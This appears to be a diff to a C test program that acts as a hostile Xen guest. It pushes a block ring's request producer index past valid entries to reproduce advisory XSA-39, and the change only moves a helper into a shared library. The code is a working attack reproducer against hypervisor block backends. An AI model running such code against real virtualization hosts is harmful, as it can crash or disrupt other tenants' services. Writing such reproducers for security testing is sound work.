@@ -5,23 +5,8 @@
  * With a second argument, requests are in flight while it happens. (XSA-39)
  */
 #include <string.h>
-#include <unistd.h>
 
 #include "hostile.h"
-
-static void send_reads(struct blkfront_queue *queue, uint32_t ref, int count)
-{
-	union blkfront_request r = { 0 };
-	uint8_t bytes[112];
-
-	r.rw.operation = BLKIF_OP_READ;
-	r.rw.nr_segments = 1;
-	r.rw.seg[0] = (struct blkif_request_segment){ ref, 0, 7 };
-	while (count--) {
-		r.rw.id++;
-		blkfront_raw_request(queue, bytes, blkfront_raw_encode(queue, &r, bytes));
-	}
-}
 
 int main(int argc, char **argv)
 {
@@ -35,10 +20,8 @@ int main(int argc, char **argv)
 	int i;
 
 	ref = hostile_page(queue, &page);
-	if (argc > 2) {
-		send_reads(queue, ref, 16);
-		blkfront_kick(queue);
-	}
+	if (argc > 2)
+		hostile_send_reads(queue, ref, 16);
 	blkfront_ring_raw(queue, &raw);
 	__atomic_store_n(&raw.sring->req_prod, raw.req_prod + jump, __ATOMIC_RELEASE);
 	blkfront_raw_notify(queue);
